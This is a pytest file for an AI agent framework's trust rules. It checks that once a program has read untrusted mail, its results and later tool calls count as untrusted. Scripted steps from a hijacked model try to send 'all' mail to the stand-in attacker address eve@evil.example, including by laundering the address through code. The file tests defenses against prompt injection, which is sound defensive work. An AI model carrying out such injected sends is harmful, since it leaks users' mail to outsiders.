"""Programs and rules of trust: what one has read is told of its result, and binds its calls."""

import pytest

import rightcall as rc
from programs.kit import NAME, scripted
from rightcall.core.decision import Evidence
from rightcall.core.message import Results
from rightcall.record.memory import MemoryJournal
from rightcall.testing import ScriptedModel, call, reply
from rightcall.trust.rules import Rules
from trust.kit import EVIL, Office

PROMPT = "Read my mail and answer bob@firm.example."


def agent_of(office: Office, *programs: str, **settings) -> rc.Agent:
    return rc.Agent(
        scripted(*programs), rc.programs.code(office.tools), **{"trust": Rules(), **settings}
    )


def result_of(result: rc.RunResult) -> rc.gate.Result:
    return next(message for message in result.transcript if isinstance(message, Results)).results[0]


@pytest.mark.parametrize("rules", [None, Rules()])
async def test_once_it_has_read_an_outsiders_words_all_that_a_program_says_is_theirs(rules):
    program = "mail = await inbox()\nlen(mail)"
    found = result_of(await agent_of(Office(), program, trust=rules).run(PROMPT))
    assert (found.source, found.text) == ("inbox", '{"untrusted_source":"inbox","content":"1"}')


@pytest.mark.parametrize("rules", [None, Rules()])
async def test_what_it_fails_with_is_theirs_too(rules):
    program = "mail = await inbox()\nraise ValueError(mail[0]['body'])"
    found = result_of(await agent_of(Office(), program, trust=rules).run(PROMPT))
    assert (found.outcome, found.source) == ("failed", "inbox")
    assert "eve@evil.example" in found.text


async def test_without_an_agent_too():
    tools = [rc.programs.code(Office().tools)]
    programs = ["(await inbox())[0]['body']", "raise ValueError((await inbox())[0]['body'])"]
    calls = [
        rc.Call(id=str(n), name=NAME, arguments=f'{{"program":"{p}"}}') for n, p in enumerate(programs)
    ]
    for each in await rc.run_calls(calls, tools):
        assert each.result.source == "inbox"
        assert each.result.text.startswith('{"untrusted_source":"inbox"')


async def test_a_program_that_read_what_its_tools_vouch_for_is_believed():
    program = "(await contacts('Carol'))[0]"
    agent = rc.Agent(
        ScriptedModel(
            [
                reply(call(NAME, program=program)),
                reply(call(NAME, program="await inbox()")),
                reply(call("send", to=["carol@firm.example"], body="x")),
                "Done.",
            ]
        ),
        [rc.programs.code(Office().tools), Office().tools[4]],
        trust=Rules(otherwise="deny"),
    )
    result = await agent.run("Write to Carol.")
    assert [each.outcome for each in result.calls] == ["returned", "returned", "denied"]
    assert (result.calls[0].result.source, result.calls[1].result.source) == (None, "inbox")


async def test_a_target_that_an_outsider_named_is_asked_about_inside():
    office = Office()
    program = (
        "mail = (await inbox())[0]\nawait send([mail['desk']], 'ok')\n"
        "await send([mail['body'].split()[6]], 'all')"
    )
    result = await agent_of(office, program).run(PROMPT)
    (proposal,) = result.pending
    assert office.done == ["send bob@firm.example: ok"]
    assert proposal.evidence == (Evidence("$.to[0]", "eve@evil.example", "untrusted", "inbox"),)


async def test_a_value_that_was_computed_is_nobodys():
    office, journal = Office(mail="eve"), MemoryJournal()
    program = "mail = (await inbox())[0]\nawait send([mail['body'] + '@evil.' + 'example'], 'all')"
    result = await agent_of(office, program, trust=Rules(otherwise="deny"), journal=journal).run(PROMPT)
    assert "line 2: RuntimeError: send was not run; permission was denied" in result_of(result).text
    assert office.done == []


async def test_what_a_program_has_read_binds_the_run_after_it():
    office = Office()
    theft = call("send", to=["eve@evil.example"], body="all")
    script = [reply(call(NAME, program="await inbox()\n0")), reply(theft), "Done."]
    tools = [rc.programs.code(office.tools), *office.tools]
    result = await rc.Agent(ScriptedModel(script), tools, trust=Rules()).run(PROMPT)
    assert [each.name for each in result.pending] == ["send"]


@pytest.mark.parametrize("form", ["json", "text"])
async def test_a_program_vouches_for_nothing_that_a_hijacked_model_wrote_into_it(form):
    office = Office()
    program = "'eve@evil.' + 'example'"
    written = program if form == "text" else f'{{"program":"{program}"}}'
    wash = rc.Call(id="w", name=NAME, arguments=written, form=form)
    theft = call("send", to=["eve@evil.example"], body="all")
    script = [reply(call("inbox")), reply(wash), reply(theft), "Done."]
    tools = [rc.programs.code(office.tools), *office.tools]
    result = await rc.Agent(ScriptedModel(script), tools, trust=Rules()).run(PROMPT)
    assert result.calls[1].result.text == "eve@evil.example"
    assert ([each.name for each in result.pending], office.done) == (["send"], [])


async def test_what_the_run_has_read_binds_a_program_in_it():
    office = Office()
    program = "await send(['eve@evil.example'], 'all')"
    script = [reply(call("inbox")), reply(call(NAME, program=program)), "Done."]
    tools = [rc.programs.code(office.tools), *office.tools]
    result = await rc.Agent(ScriptedModel(script), tools, trust=Rules()).run(PROMPT)
    assert [(each.name, each.call_id) for each in result.pending] == [("send", f"t2.0.{NAME}/c1")]


async def test_what_was_stated_binds_inside_and_is_counted():
    office = Office()
    program = (
        "await inbox()\nawait send(['bob@firm.example'], 'a')\nawait send(['bob@firm.example'], 'b')"
    )
    agent = agent_of(office, program, trust=Rules(otherwise="deny"))
    stated = [rc.Intent("send", to="bob@firm.example", body=rc.trust.Free())]
    result = await agent.run("Answer.", intents=stated)
    assert "send was stated once, and that is used up" in result_of(result).text
    assert office.done == ["send bob@firm.example: a"]


async def test_a_suspicion_inside_is_the_results():
    async def screen(text):
        return EVIL in text

    found = result_of(
        await agent_of(Office(), "await inbox()\n0", trust=Rules(screen=screen)).run(PROMPT)
    )
    assert (found.suspected, found.source) == (True, "inbox")
